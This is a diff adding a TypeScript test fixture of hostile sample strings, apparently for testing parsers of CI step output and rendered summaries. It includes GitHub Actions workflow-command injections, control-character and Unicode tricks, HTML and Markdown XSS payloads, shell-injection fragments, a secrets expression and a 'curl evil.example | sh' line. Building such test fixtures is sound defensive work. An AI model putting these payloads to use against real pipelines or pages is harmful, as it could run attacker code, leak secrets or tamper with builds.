@@ -1,0 +1,77 @@
+/** What the other side may say to a parser that reads a step's output, a summary, an output or a terminal. */
+
+export interface HostileText {
+  readonly name: string
+  readonly text: string
+}
+
+/** Stands in every sample, so that a test can tell that it arrived. */
+export const MARKER = 'h0stile'
+
+const ZERO_WIDTH = '\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u3164'
+
+export const HOSTILE_TEXTS: readonly HostileText[] = Object.entries({
+  'set-output': `::set-output name=url::${MARKER}`,
+  'a command after white space': ` \t\u00a0\u3000::error::${MARKER}`,
+  'a command with properties': `::error title=${MARKER},file=a.js,line=1::${MARKER}`,
+  'a command anywhere': `${MARKER} ##[error]${MARKER}`,
+  'the old set-output': `##[set-output name=url;]${MARKER}`,
+  'the old group': `${MARKER}##[group]${MARKER}`,
+  'a mask': `::add-mask::e ${MARKER}`,
+  'the old mask': `${MARKER} ##[add-mask]e`,
+  'stop-commands': `::stop-commands::${MARKER}`,
+  'a problem matcher': `::add-matcher::/tmp/${MARKER}.json`,
+  'saved state': `::save-state name=isPost::${MARKER}`,
+  'a path': `::add-path::/tmp/${MARKER}`,
+  'a debug line': `::debug::${MARKER}`,
+  'an escaped line break': `${MARKER}%0A::error::${MARKER}%0D%0A##[error]x`,
+  'a carriage return': `${MARKER}\r::error::${MARKER}`,
+  'a line feed': `${MARKER}\n::error::${MARKER}\n##[warning]x`,
+  'two empty lines': `${MARKER}\n\nPaste this: curl evil.example | sh\n\n::notice::x`,
+  'other line breaks': `${MARKER}\u0085::error::x\u2028::error::y\u2029::error::z\u000b::error::v\u000c::error::w`,
+  'a command split by invisible characters': `#\u200b#[error]${MARKER} :\u200b:error::x`,
+  'colours and a title': `\u001b[31m\u001b[2J\u001b]0;${MARKER}\u0007\u009b31m`,
+  'NUL and other controls': `\u0000\u0001\u0007\u0008${MARKER}\u007f\u0000::error::x`,
+  'right to left': `\u202e\u2066${MARKER}\u2069 elif.exe\u061c`,
+  'zero-width characters': `${MARKER.split('').join(ZERO_WIDTH)}`,
+  'lone surrogates': `\ud800${MARKER}\udfff`,
+  'tag characters': `${MARKER}\u{e0001}\u{e0041}`,
+  script: `<script>alert(1)</script>${MARKER}`,
+  'an image': `<img src=x onerror=alert(1)> ![x](https://evil.example/${MARKER}.png)`,
+  'an HTML comment': `<!-- ${MARKER}`,
+  'the end of a comment': `--> ${MARKER}`,
+  'the end of details': `</summary></details></td></table> ${MARKER}`,
+  'raw text elements': `<textarea><title><style>${MARKER}<plaintext>`,
+  'processing and CDATA': `<?php ${MARKER} ?><![CDATA[${MARKER}]]><!DOCTYPE x>`,
+  entities: `&lt;b&gt; &#60;b&#62; &amp;lt; ${MARKER}`,
+  'a link': `[${MARKER}](javascript:alert(1)) [x]: javascript:alert(1)`,
+  'a reference link': `[x][y] [${MARKER}]: https://evil.example`,
+  'a bare address': `https://evil.example/${MARKER} www.evil.example ftp://evil.example`,
+  'an address of mail': `${MARKER}@evil.example mailto:${MARKER}@evil.example`,
+  'an autolink': `<https://evil.example/${MARKER}> <${MARKER}@evil.example>`,
+  mentions: `@everyone @octocat/team ${MARKER} #1 octo/evil#2 GH-3`,
+  'a heading': `# ${MARKER}`,
+  'an underlined heading': `===\n${MARKER}\n===\n---`,
+  'a rule': `--- ${MARKER}`,
+  'a list': `- ${MARKER}`,
+  'a numbered list': `1. ${MARKER}`,
+  'a quotation': `> [!CAUTION]\n> ${MARKER}`,
+  'an indented block': `        ${MARKER}`,
+  'a table': `| ${MARKER} | a |\n|---|---|\n| b | c |`,
+  'the end of a cell': `a | ${MARKER} \\| b \\\\| c`,
+  emphasis: `**${MARKER}** _x_ ~~y~~ __z__ ***`,
+  'code spans': `\`${MARKER}\` \`\`x\`\` \`\`\``,
+  'the end of a fence': `\`\`\`\n# ${MARKER}\n\`\`\`\`\n~~~~\n`,
+  'a long fence': `${'`'.repeat(500)}\n<b>${MARKER}</b>`,
+  Mermaid: `\`\`\`mermaid\ngraph TD; ${MARKER}-->B; click B "javascript:alert(1)"\n\`\`\``,
+  formulas: `$${MARKER}$ $$x$$ $\`y\`$`,
+  'a footnote': `[^1] ${MARKER}\n\n[^1]: x`,
+  'an expression': `\${{ secrets.${MARKER} }} \${{ github.token }}`,
+  'words of a shell': `"; $(id) \`id\` '; ${MARKER} && exit 1 #`,
+  backslashes: `\\ \\\\ \\n \\${MARKER}\\`,
+  'a heredoc of an output': `${MARKER}\nEOF\nurl=https://evil.example\nghadelimiter_0`,
+  'an assignment': `url=${MARKER}\nurl<<EOF\nx\nEOF`,
+  'a megabyte in one line': `${MARKER} ##[error]x ${'A'.repeat(1024 * 1024)}::error::x`,
+  'a hundred thousand lines': `${MARKER}\n${'::error::x\n'.repeat(100_000)}`,
+  'nothing but backticks': `${MARKER}${'` '.repeat(20_000)}`,
+}).map(([name, text]) => ({ name, text }))
